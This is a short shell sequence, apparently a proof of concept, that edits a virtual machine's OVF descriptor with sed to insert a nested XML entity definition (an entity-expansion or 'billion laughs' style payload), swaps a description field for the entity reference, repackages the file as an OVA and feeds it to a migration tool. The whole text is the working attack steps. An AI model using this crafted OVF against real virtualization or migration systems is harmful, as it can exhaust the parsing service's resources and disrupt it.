exported_disk && ovf web-disk1.vmdk
sed -i '2i <!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>' web.ovf
sed -i 's/A machine/\&b;/' web.ovf
ova web.ovf web-disk1.vmdk
migrate ova
